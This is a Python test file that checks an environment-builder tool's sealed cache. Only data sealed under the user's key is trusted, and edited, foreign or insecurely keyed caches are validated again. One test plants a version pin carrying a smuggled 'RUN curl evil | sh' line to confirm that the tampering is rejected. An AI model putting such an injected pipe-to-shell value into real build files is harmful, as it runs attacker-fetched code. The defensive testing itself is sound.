"""The matrix cache is sealed: only text this envbuild validated and sealed with the user's key
is read without validating it again; an edited, planted or foreign cache is validated afresh,
and what it says never reaches a render."""

from __future__ import annotations

import json

from envbuilder import paths
from envbuilder.model import matrix as M


def cache_path():
    return M._cache_path(M.matrix_files((), None))


def test_a_sealed_cache_is_read_and_an_edited_one_is_not(monkeypatch, tmp_path):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    fresh = M.load(())
    path = cache_path()
    text = path.read_text()
    assert text.startswith(paths.SEAL)
    assert paths.read_sealed(path) is not None
    # an edit under the old seal: a newline where a pin belongs (it once became a RUN line)
    head, body = text.split("\n", 1)
    doc = json.loads(body)
    prof = next(iter(doc["sections"]["profiles"].values()))
    prof["torch"] = "2.6.0\nRUN curl evil | sh"
    path.write_text(head + "\n" + json.dumps(doc))
    assert paths.read_sealed(path) is None
    again = M.load(())  # refused: validated afresh from the matrix files, then sealed anew
    assert again.profiles == fresh.profiles
    assert paths.read_sealed(path) is not None


def test_a_seal_under_another_key_is_not_ours(monkeypatch, tmp_path):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    M.load(())
    path = cache_path()
    key = path.parent / ".key"
    key.write_bytes(b"\x01" * 32)  # another key: the cache sealed before is now foreign
    assert paths.read_sealed(path) is None
    assert M.load(()).profiles  # (validated afresh)


def test_a_key_others_may_read_or_a_link_is_no_key(monkeypatch, tmp_path):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    M.load(())
    path = cache_path()
    key = path.parent / ".key"
    key.chmod(0o644)
    assert paths.read_sealed(path) is None
    key.unlink()
    key.symlink_to(tmp_path / "elsewhere")
    (tmp_path / "elsewhere").write_bytes(b"\x02" * 32)
    assert paths.read_sealed(path) is None


def _plan_files(tmp_path):
    return sorted((tmp_path / "envbuild").glob("plan-*.json"))


def _resolve_p40():
    from envbuilder.model import resolve as R
    from envbuilder.model.resolved import Overrides

    R._PLANS.clear()  # (as a fresh process finds it: no plan of this matrix in memory)
    return R.resolve(M.load(()), "p40", Overrides())


def test_a_memory_plan_is_kept_sealed_and_only_a_sealed_one_is_read(monkeypatch, tmp_path):
    """resolve keeps each memory plan in the cache folder (a fresh process's render no longer
    searches the batch sizes again): what this user's envbuild sealed is read back as it is; an
    edit under the old seal is not, and the plan is worked out afresh and sealed anew."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    monkeypatch.delenv("ENVBUILD_NO_CACHE", raising=False)
    fresh = _resolve_p40()
    [path] = _plan_files(tmp_path)
    body = paths.read_sealed(path)
    assert body is not None
    plan = json.loads(body)
    assert plan["phases"] and plan["rollout_batch_per_gpu"] == fresh.memory["rollout_batch_per_gpu"]
    # a plan sealed under the user's key is what the next resolution uses, without a search
    plan["rollout_batch_per_gpu"] = 3
    paths.write_sealed(path, json.dumps(plan))
    assert _resolve_p40().memory["rollout_batch_per_gpu"] == 3
    # the same text without the seal (planted or edited) is not read: worked out afresh
    head, _ = path.read_text().split("\n", 1)
    path.write_text(head + "\n" + json.dumps(dict(plan, rollout_batch_per_gpu=5)))
    again = _resolve_p40()
    assert again.memory == fresh.memory
    assert (
        json.loads(paths.read_sealed(path))["rollout_batch_per_gpu"] == fresh.memory["rollout_batch_per_gpu"]
    )


def test_without_a_cache_the_plan_is_worked_out_every_time(monkeypatch, tmp_path):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    monkeypatch.setenv("ENVBUILD_NO_CACHE", "1")
    assert _resolve_p40().memory["rollout_batch_per_gpu"] >= 1
    assert not _plan_files(tmp_path)
